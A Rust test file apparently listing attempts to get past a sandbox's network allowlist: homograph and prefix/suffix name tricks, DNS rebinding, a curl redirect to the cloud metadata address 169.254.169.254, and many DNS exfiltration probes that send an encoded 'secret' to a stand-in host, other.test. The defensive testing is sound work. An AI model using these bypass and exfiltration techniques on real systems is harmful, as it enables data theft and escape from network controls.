//! Names that no rule allows, misleading names, and DNS as an exfiltration channel.

use super::Policy::{Denied, Misleading, Subdomains};
use super::Proof::Contact;
use super::{Attempt, attempt};

pub(in super::super) const NAMES: &[Attempt] = &[
    attempt("other_name", "judge(named('other.test'))"),
    attempt("trailing_dot", "judge(named('other.test.'))"),
    attempt("upper_case", "judge(named('OTHER.Test'))"),
    attempt("subdomain", "judge(named('sub.allowed.test'))"),
    attempt("prefix", "judge(named('evilallowed.test'))"),
    attempt("suffix", "judge(named('allowed.test.evil.test'))"),
    attempt("homograph", "judge(named('\\u0430llowed.test'.encode('idna').decode()))"),
    attempt("no_subdomain", "judge(named('allowed.test'))").under(Subdomains),
    attempt("no_subdomain_but_a_prefix", "judge(named('evilallowed.test'))").under(Subdomains),
    attempt("denied", "judge(named('sub.allowed.test'))").under(Denied),
    attempt("denied_in_upper_case", "judge(named('SUB.ALLOWED.TEST.'))").under(Denied),
    attempt("denied_address_of_a_name", "judge(named('mixed.test'))").under(Denied),
    attempt("name_of_a_private_address", "judge(named('internal.test'))").under(Misleading),
    attempt("name_of_a_unique_local_address", "judge(named('internal6.test'))").under(Misleading),
    attempt("name_of_metadata", "judge(named('metadata.test'))").under(Misleading),
    attempt("name_of_loopback", "judge(named('loopback.test'))").under(Misleading),
    attempt("name_of_zero", "judge(named('zero.test'))").under(Misleading),
    attempt("name_of_a_mapped_address", "judge(named('mapped.test'))").under(Misleading),
    attempt("name_of_a_translated_address", "judge(named('nat64.test'))").under(Misleading),
    attempt("name_of_two_addresses", "judge(named('mixed.test'))").under(Misleading),
    attempt("below_localhost", "judge(tcp((socket.gethostbyname('x.localhost'), 80)))")
        .under(Misleading),
    attempt(
        "rebinding",
        "
if b'reached' not in named('rebind.test'):
    blocked('not even the first request reached a server')
judge(named('rebind.test'))",
    )
    .under(Misleading)
    .may_reach(&["93.184.216.34:80"]),
    attempt(
        "rebinding_between_look_up_and_dial",
        "
looked_up = socket.gethostbyname('rebind.test')
named('rebind.test')
judge(named('rebind.test'))",
    )
    .under(Misleading)
    .may_reach(&["93.184.216.34:80"]),
    attempt(
        "redirect_to_metadata",
        "#! curl -sL --noproxy '*' 'http://allowed.test/redirect?http://169.254.169.254/' | grep reached || exit 42",
    )
    .may_reach(&["93.184.216.34:80"]),
    attempt(
        "redirect_to_another_name",
        "
import urllib.request
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
judge(opener.open('http://allowed.test/redirect?http://other.test/').read())",
    )
    .may_reach(&["93.184.216.34:80"]),
    attempt("dns_of_another_server", "judge(dns('data.other.test', 16, OTHER))"),
    attempt("dns_txt", "judge(dns('c2VjcmV0.other.test', 16))"),
    attempt("dns_mx", "judge(dns('c2VjcmV0.other.test', 15))"),
    attempt("dns_srv", "judge(dns('c2VjcmV0.other.test', 33))"),
    attempt("dns_null", "judge(dns('c2VjcmV0.other.test', 10))"),
    attempt("dns_any", "judge(dns('c2VjcmV0.other.test', 255))"),
    attempt("dns_of_an_allowed_name", "judge(dns('allowed.test', 16))"),
    attempt("dns_below_an_allowed_name", "judge(dns('c2VjcmV0.allowed.test', 16))"),
    attempt("dns_below_an_allowed_wildcard", "judge(dns('c2VjcmV0.allowed.test', 16))")
        .under(Subdomains),
    attempt("dns_of_addresses", "dns('c2VjcmV0.other.test', 1); leave(43, 'sent')")
        .proved_by(Contact),
    attempt("dns_without_a_dial", "dns('c2VjcmV0.allowed.test', 28); leave(43, 'sent')")
        .under(Subdomains)
        .proved_by(Contact),
    attempt("dns_reverse", "dns('1.2.3.4.in-addr.arpa', 12); leave(43, 'sent')").proved_by(Contact),
    attempt(
        "dns_in_long_labels",
        "dns('.'.join(['s' * 60] * 3) + '.other.test', 1); leave(43, 'sent')",
    )
    .proved_by(Contact),
    attempt(
        "dns_over_tcp",
        "
question = query('data.other.test', 16)
connection = socket.create_connection((OTHER, 53), 30)
connection.sendall(len(question).to_bytes(2, 'big') + question)
judge(connection.recv(4096))",
    ),
    attempt(
        "dns_unconnected",
        "
question = socket.socket(V4, UDP)
question.sendto(query('data.other.test', 16), (OTHER, 53))
judge(question.recv(4096))",
    ),
    attempt(
        "dns_of_loopback",
        "judge(dns('data.other.test', 16, '127.0.0.1'))",
    ),
    attempt(
        "dns_with_bytes_behind_the_question",
        "
with socket.socket(V4, UDP) as question:
    question.connect((OTHER, 53))
    question.send(query('data.other.test', 16) + b'more')
    judge(question.recv(4096))",
    ),
    attempt(
        "dns_by_the_resolver",
        "
try:
    socket.getaddrinfo('c2VjcmV0.other.test', 80)
except OSError:
    pass
leave(43, 'sent')",
    )
    .proved_by(Contact),
];
